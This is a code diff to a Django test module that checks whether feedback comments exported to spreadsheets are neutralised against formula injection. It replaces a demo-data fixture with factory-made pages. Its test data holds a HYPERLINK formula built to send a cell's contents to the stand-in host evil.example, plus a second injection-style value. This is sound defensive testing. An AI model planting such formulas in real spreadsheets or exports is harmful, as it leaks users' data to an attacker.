@@ -10,9 +10,10 @@ from django.contrib.auth import get_user_model
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from pages.models import InformationPage, PageFeedback
+from pages.models import PageFeedback
 from pages.reports.exports import neutralise
 from pages.reports.views import BaliseReportView
+from tests import factories
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "Cliquez ici")'
 
@@ -41,8 +42,10 @@ def test_a_negative_number_stays_a_number_while_text_is_neutralised(export_forma
 
 
 @pytest.fixture
-def commented_page(demo_pages, client):
-    page = InformationPage.objects.get(locale__language_code="fr", slug="revenu-integration")
+def commented_page(db, client):
+    home = factories.make_site()
+    page = factories.make_page(home, title="Demander le revenu d'intégration",
+                               slug="revenu-integration")
     for comment in (FORMULA, "-2+3", "Très utile, merci"):
         PageFeedback.objects.create(page=page, helpful=False, comment=comment)
     staff = get_user_model().objects.create_superuser("exporter", "e@example.org", "pw")
